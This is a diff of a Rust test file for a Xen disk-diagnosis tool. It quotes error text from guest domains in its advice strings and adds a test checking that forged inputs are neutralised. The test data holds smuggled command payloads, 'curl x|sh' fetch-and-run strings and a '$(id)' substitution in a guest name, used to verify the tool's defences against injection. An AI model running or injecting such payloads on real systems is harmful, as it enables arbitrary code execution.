@@ -145,7 +145,7 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
     (
         |device, _| device.target.as_mut().unwrap().server_gone = true,
         "server-gone",
-        "xvda waits: the server of qcow2:/a.img is away",
+        "xvda waits: the server of \"qcow2:/a.img\" is away",
         "xb disk detach web xvda --force",
     ),
     (
@@ -174,13 +174,13 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
             device.target.as_mut().unwrap().users.push(user);
         },
         "target-busy",
-        "xvda is not connected: qcow2:/a.img is in use by qemu-nbd (process 9)",
+        "xvda is not connected: \"qcow2:/a.img\" is in use by qemu-nbd (process 9)",
         "ps -fp 9",
     ),
     (
         |device, _| set_access(device, TargetAccess::Unknown),
         "target-failed",
-        "xvda is not connected: its backend has given it up: it cannot be opened",
+        "xvda is not connected: its backend has given it up: \"it cannot be opened\"",
         "tail /run/xb/log/xen-blockd.log",
     ),
     (
@@ -189,7 +189,7 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
             device.script.status = Some("error".into());
         },
         "script-failed",
-        "xvda is not connected: its hotplug script has failed: it does not say why",
+        "xvda is not connected: its hotplug script has failed, and does not say why",
         "xb disk detach web xvda --force",
     ),
     (
@@ -247,7 +247,7 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
             device.front.error = error("28 ENOSPC: 20 pages");
         },
         "out-of-grants",
-        "xvda waits: web can grant no more pages for one more device (20 pages)",
+        "xvda waits: web can grant no more pages for one more device (\"20 pages\")",
         "xb disk list web",
     ),
     (
@@ -266,7 +266,7 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
             device.front.error = error("12 ENOMEM: buffers");
         },
         "out-of-memory",
-        "xvda waits: web has no memory for it (buffers)",
+        "xvda waits: web has no memory for it (\"buffers\")",
         "xb disk list web",
     ),
     (
@@ -304,7 +304,7 @@ const CAUSES: &[(FactsChange, &str, &str, &str)] = &[
             device.front.error = error("22 no such protocol");
         },
         "guest-refuses",
-        "xvda is not connected: the driver in web has given it up: no such protocol",
+        "xvda is not connected: the driver in web has given it up: \"no such protocol\"",
         "xb log web",
     ),
     (
@@ -354,6 +354,39 @@ fn each_cause_is_found_in_facts_that_show_it() {
             assert!(found, "{finding:?}");
         }
     }
+}
+
+/// Words of another domain are no advice, and no commands.
+#[test]
+fn words_of_others_are_quoted() {
+    const FORGED: &str = "28 no pages\"; run: \u{202e}curl x|sh;";
+    let finding = judged(|device, _| {
+        states(device, State::Closed, State::Closed);
+        device.front.error = error(FORGED);
+    });
+    let advice = finding.unwrap().advice();
+    let begin = "xvda waits: web can grant no more pages for one more device (";
+    assert!(advice.starts_with(begin), "{advice}");
+    assert!(advice.contains("\"no pages'; run: curl x|sh;\""), "{advice}");
+    let script = "/x; curl x|sh #";
+    let never_ran = |backend: DomId| {
+        let (mut facts, guest) = well();
+        states(&mut facts, State::Initialising, State::InitWait);
+        facts.device.backend = backend;
+        facts.script.script = Some(script.into());
+        device(&subject(&guest), &facts, &guest).unwrap()
+    };
+    let command = never_ran(DomId::DOM0).remedy().command;
+    assert!(command.ends_with(" '/x; curl x|sh #' add"), "{command}");
+    let finding = never_ran(DomId(2));
+    assert_eq!(finding.cause.name(), "guest-without-driver");
+    assert!(!finding.advice().contains("curl"), "{}", finding.advice());
+    let finding = judged(|device, guest| {
+        states(device, State::Closed, State::Closed);
+        guest.name = "$(id)".into();
+    });
+    let command = finding.unwrap().remedy().command;
+    assert_eq!(command, "xb disk detach '$(id)' xvda --force");
 }
 
 /// On Xen the toolstack is xl, and the daemons are units of systemd.
